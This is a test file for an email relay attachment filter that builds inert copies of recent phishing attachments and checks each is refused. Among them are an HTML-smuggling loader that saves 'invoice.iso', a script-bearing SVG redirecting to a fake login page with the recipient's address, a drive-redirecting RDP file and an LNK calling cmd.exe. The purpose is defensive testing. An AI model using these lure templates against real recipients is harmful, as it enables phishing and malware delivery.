import assert from 'node:assert/strict';
import { hostedRelay, sendMail, type CaptureServer, type HostedRelay } from '@portcullis/testkit';
import relayPolicy from '@portcullis/relay-policy';
import attachments from '../src/index.js';
import * as f from './fixtures.js';

/**
 * Issue 9 item 9: the attachment kinds of the 2023-2025 campaigns (README, "Threats the defaults
 * cover"), built by the test in their real formats, sent over SMTP to a relay running the plugin
 * with NO options. Each must be refused at the end of DATA with a reason; benign HTML and SVG pass.
 */

/** A OneNote notebook: the revision-store GUID header, then an embedded "file" as lures carry. */
function oneNote(tag: string): Buffer {
  const b = Buffer.alloc(4096);
  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex').copy(b, 0);
  b.write(`Double click to view the document ${f.marker(tag)} WScript.Shell`, 0x400, 'latin1');
  return b;
}

/** A Windows shortcut: header size 0x4C and the shell-link CLSID 00021401-0000-0000-C000-000000000046. */
function lnk(tag: string): Buffer {
  const b = Buffer.alloc(512);
  b.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(b, 4);
  b.write(`C:\\Windows\\System32\\cmd.exe /c ${f.marker(tag)}`, 0x100, 'utf16le');
  return b;
}

/** A fixed VHD: the 512-byte footer ("conectix" cookie), copied at the start as dynamic disks do. */
function vhd(tag: string): Buffer {
  const b = Buffer.alloc(1024);
  b.write('conectix', 0, 'latin1');
  b.writeUInt32BE(2, 8);
  b.write('conectix', 512, 'latin1');
  b.write(f.marker(tag), 100, 'latin1');
  return b;
}

/** An XLL add-in is a DLL: a PE file with the DLL characteristic. */
function xll(tag: string): Buffer {
  const b = f.pe(tag);
  b.writeUInt16LE(0x2102, 0x80 + 22); // IMAGE_FILE_DLL | EXECUTABLE_IMAGE | 32BIT
  return b;
}

/** An MSIX package: a zip with AppxManifest.xml and a program inside. */
async function msix(tag: string): Promise<Buffer> {
  return f.zip([
    { name: 'AppxManifest.xml', data: Buffer.from('<?xml version="1.0"?><Package xmlns="http://schemas.microsoft.com/appx/manifest/foundation/windows10"><Applications><Application Id="App" Executable="app.exe"/></Applications></Package>') },
    { name: 'app.exe', data: f.pe(tag) },
  ]);
}

/** HTML smuggling: the payload is rebuilt in the browser from base64 and saved through a blob. */
function smugglingHtml(tag: string): Buffer {
  const blob = Buffer.from(f.marker(tag)).toString('base64');
  return Buffer.from(`<!DOCTYPE html><html><body><p>Your document is downloading…</p>\n<SCRIPT type="text/javascript">\nvar d=atob("${blob}");var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);\nvar u=URL.createObjectURL(new Blob([a],{type:"application/octet-stream"}));var l=document.createElement("a");l.href=u;l.download="invoice.iso";l.click();\n</SCRIPT></body></html>\n`);
}

/** An SVG "voicemail" that runs script on open; padded so the script sits past the first chunk. */
function scriptedSvg(tag: string): Buffer {
  return Buffer.from(`<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><!-- ${'x'.repeat(100_000)} -->\n<rect width="400" height="200" fill="#eee"/><text x="20" y="100">Voicemail ${f.marker(tag)}</text>\n<script><![CDATA[ window.location = "https://login.example.invalid/?e=" + btoa("bob@example.com"); ]]></script></svg>\n`);
}

describe('default attachment rules against current threats (no options)', function () {
  this.timeout(60_000);
  let sink: CaptureServer;
  let relay: HostedRelay;
  before(async () => {
    relay = await hostedRelay({ builtins: { 'relay-policy': relayPolicy, attachments }, domain: 'example.com', plugins: [{ use: 'attachments' }] });
    sink = relay.sink;
  });
  after(() => relay?.close());
  const send = (raw: string) => sendMail({ port: relay.port, localAddress: '127.0.0.9', from: 'sender@remote.test', to: 'bob@example.com', raw });

  const cases: Array<{ title: string; build: (tag: string) => Buffer | Promise<Buffer>; name: string; type?: string; reply: RegExp; renamed?: RegExp }> = [
    { title: 'a OneNote notebook (.one)', build: oneNote, name: 'Invoice_2291.one', reply: /^550 5\.7\.1 Message refused: attachment "Invoice_2291\.one" has a forbidden extension \.one/, renamed: /is a OneNote notebook, which can embed files that cannot be inspected/ },
    { title: 'an ISO image (.iso)', build: f.iso, name: 'shipment.iso', reply: /^550 5\.7\.1 Message refused: attachment "shipment\.iso" /, renamed: /is a disk image \(ISO 9660\)/ },
    { title: 'an IMG image holding ISO 9660 (.img)', build: f.iso, name: 'scan.img', reply: /^550 5\.7\.1 Message refused: attachment "scan\.img" / },
    { title: 'a VHD disk (.vhd)', build: vhd, name: 'backup.vhd', reply: /^550 5\.7\.1 Message refused: attachment "backup\.vhd" /, renamed: /is a disk image \(VHD\)/ },
    { title: 'a Windows shortcut (.lnk)', build: lnk, name: 'Document.pdf.lnk', reply: /^550 5\.7\.1 Message refused: attachment "Document\.pdf\.lnk" /, renamed: /is a Windows shortcut/ },
    { title: 'an Excel XLL add-in (.xll)', build: xll, name: 'report.xll', reply: /^550 5\.7\.1 Message refused: attachment "report\.xll" /, renamed: /is a Windows program \(PE\/MZ\)/ },
    { title: 'an MSIX installer (.msix)', build: msix, name: 'ZoomInstaller.msix', reply: /^550 5\.7\.1 Message refused: (attachment "ZoomInstaller\.msix" |archive member "app\.exe")/, renamed: /archive member "app\.exe" in attachment "[^"]+" is a Windows program/ },
    { title: 'an App Installer file (.appinstaller)', build: () => Buffer.from('<?xml version="1.0"?><AppInstaller Uri="https://cdn.example.invalid/app.appinstaller" Version="1.0.0.0" xmlns="http://schemas.microsoft.com/appx/appinstaller/2018"><MainPackage Name="App" Uri="https://cdn.example.invalid/app.msix"/></AppInstaller>'), name: 'update.appinstaller', reply: /^550 5\.7\.1 Message refused: attachment "update\.appinstaller" has a forbidden extension \.appinstaller/ },
    { title: 'an RDP connection file (.rdp)', build: () => Buffer.from('full address:s:rdp.example.invalid\r\nredirectdrives:i:1\r\ndrivestoredirect:s:*\r\n', 'utf16le'), name: 'AWS_IAM_compliance.rdp', reply: /^550 5\.7\.1 Message refused: attachment "AWS_IAM_compliance\.rdp" has a forbidden extension \.rdp/ },
    { title: 'HTML smuggling (.html with script)', build: smugglingHtml, name: 'Remittance.html', type: 'text/html', reply: /^550 5\.7\.1 Message refused: attachment "Remittance\.html" is HTML with script \(<script\)/ },
    { title: 'an SVG image with script (.svg)', build: scriptedSvg, name: 'Voicemail.svg', type: 'image/svg+xml', reply: /^550 5\.7\.1 Message refused: attachment "Voicemail\.svg" is an SVG image with active content \(<script\)/ },
  ];

  for (const c of cases) {
    it(`refuses ${c.title}`, async () => {
      const data = await c.build(c.title.replace(/\W+/g, '-'));
      const r = await send(f.message(`[threat] ${c.title}`, [f.attachment(c.name, data, c.type)]));
      assert.match(r.response, c.reply);
    });
    if (c.renamed) {
      it(`refuses ${c.title} renamed to an innocent name, by its content`, async () => {
        const data = await c.build(`${c.title.replace(/\W+/g, '-')}-renamed`);
        const r = await send(f.message(`[threat renamed] ${c.title}`, [f.attachment('document.dat', data)]));
        assert.match(r.response, /^550 5\.7\.1 Message refused: /);
        assert.match(r.response, c.renamed);
      });
    }
  }

  it('refuses an SVG with an onload handler and one declared only by type, and HTML smuggling inside a zip', async () => {
    const onload = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://x.example.invalid\')"><rect width="1" height="1"/></svg>');
    assert.match((await send(f.message('[svg onload]', [f.attachment('logo.svg', onload, 'image/svg+xml')]))).response, /is an SVG image with active content \(onload\)/);
    assert.match((await send(f.message('[svg by type]', [f.attachment('picture', scriptedSvg('by-type'), 'image/svg+xml')]))).response, /is an SVG image with active content \(<script\)/);
    const zipped = await f.zip([{ name: 'docs/Remittance.htm', data: smugglingHtml('zipped') }]);
    assert.match((await send(f.message('[zipped html]', [f.attachment('docs.zip', zipped, 'application/zip')]))).response, /archive member "docs\/Remittance\.htm" in attachment "docs\.zip" is HTML with script/);
  });

  it('passes a plain HTML receipt and a plain SVG logo, and an HTML message body with script is not an attachment', async () => {
    const before = sink.messages.length;
    const receipt = Buffer.from('<html><body><h1>Receipt</h1><p>Total: 12.00 EUR. See <a href="https://shop.example.invalid/order/1">your order</a>.</p></body></html>');
    const logo = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle cx="5" cy="5" r="4" fill="red"/></svg>');
    const r = await send(f.message('[benign html/svg]', [f.attachment('receipt.html', receipt, 'text/html'), f.attachment('logo.svg', logo, 'image/svg+xml')]));
    assert.match(r.response, /^250 /);
    await sink.waitFor(before + 1);
  });
});
